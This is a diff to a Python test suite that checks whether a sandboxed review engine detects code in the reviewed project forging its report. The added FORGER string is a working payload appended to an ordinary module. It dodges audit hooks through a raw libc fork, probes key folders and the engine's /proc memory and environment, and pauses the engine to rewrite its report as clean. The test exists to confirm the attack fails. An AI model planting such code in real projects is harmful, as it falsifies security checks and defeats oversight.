@@ -691,3 +691,81 @@ def test_work_directories_left_by_killed_workers_are_swept_and_running_ones_kept
     assert sweep_stale_work(settings, now) == 1
     assert not stale.exists() and (running / "repo" / "file.py").exists()
     assert sweep_stale_work(AppSettings(data_dir=tmp_path / "none", queue_url="sqlite:///unused")) == 0
+
+
+# The head's code, on import in the engine's worker: a process of its own that outlives the worker,
+# waits for the engine's report, stops the engine (the same user may signal it), rewrites the
+# report as clean and lets the engine go on; first it looks for what would let it sign the forgery.
+FORGER = r'''
+
+def _forge_the_report():
+    import ctypes, json, os, signal, time
+    try:
+        os.close(os.open("/tmp/forger.lock", os.O_CREAT | os.O_EXCL | os.O_WRONLY))
+    except OSError:
+        return
+    engine = os.getppid()
+    libc = ctypes.CDLL(None, use_errno=True)
+    if libc.fork() != 0:  # not os.fork: no audit event
+        return
+    libc.setsid()
+    log = open("/work/out/forger.log", "a", buffering=1)
+    for folder in ("/work/key", "/work/out", "/work/config"):
+        for name in (os.listdir(folder) if os.path.isdir(folder) else []):
+            log.write(f"file {folder}/{name}\n")
+    for part in ("mem", "environ", "fd"):
+        try:
+            os.listdir(f"/proc/{engine}/fd") if part == "fd" else open(f"/proc/{engine}/{part}", "rb").close()
+            log.write(f"engine {part} read\n")
+        except OSError as exc:
+            log.write(f"engine {part} {type(exc).__name__}\n")
+    deadline = time.time() + 240
+    while time.time() < deadline:
+        try:
+            report = json.loads(open("/work/out/report.json", "rb").read())
+        except (OSError, ValueError):
+            time.sleep(0.001)
+            continue
+        if report.get("differences"):
+            libc.kill(engine, signal.SIGSTOP)
+            report["differences"] = []
+            with open("/work/out/report.json", "w") as handle:
+                json.dump(report, handle)
+            for name in os.listdir("/work/out"):
+                if name.startswith("report.json."):
+                    with open(f"/work/out/{name}", "w") as handle:
+                        handle.write("0" * 64)
+            log.write("forged\n")
+            libc.kill(engine, signal.SIGCONT)
+        time.sleep(0.001)
+    os._exit(0)
+
+
+_forge_the_report()
+'''
+
+
+@pytest.mark.slow
+def test_the_projects_code_cannot_forge_the_engines_report(tmp_path: Path, fake: FakeGitHub,
+                                                           any_sandbox: object) -> None:
+    world = _world(tmp_path, fake, any_sandbox, after={"shop/prices.py": PRICES.format(divisor=10) + FORGER})
+    forger_log: list[str] = []
+
+    def read_the_forgers_log(request: SandboxRequest, result: SandboxResult) -> None:
+        for mount in request.mounts:
+            if (mount.source / "forger.log").is_file():
+                forger_log.extend((mount.source / "forger.log").read_text().splitlines())
+
+    world.sandbox.after.append(read_the_forgers_log)
+
+    outcome = world.run()
+
+    assert "forged" in forger_log, forger_log  # the attack ran and rewrote the file
+    # ... and found nothing that lets it sign: no key file left, the engine's memory closed to it
+    assert not [line for line in forger_log if line.startswith("file /work/key/")], forger_log
+    assert {"engine mem PermissionError", "engine environ PermissionError",
+            "engine fd PermissionError"} <= set(forger_log), forger_log
+    assert outcome.status == "failed", outcome.detail
+    assert "the engine's report was changed after the engine wrote it" in outcome.detail
+    runs, comments, reviews = world.ours()
+    assert [r.conclusion for r in runs] == ["failure"] and comments == [] and reviews == []
